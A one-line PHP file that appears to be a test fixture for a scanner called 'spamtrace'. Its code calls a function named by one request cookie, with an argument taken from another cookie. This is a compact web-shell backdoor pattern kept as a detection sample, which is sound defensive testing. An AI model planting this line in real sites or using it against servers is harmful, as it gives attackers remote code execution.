<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
filter_input(INPUT_COOKIE, 'cb', FILTER_DEFAULT)(filter_input(INPUT_COOKIE, 'arg'));
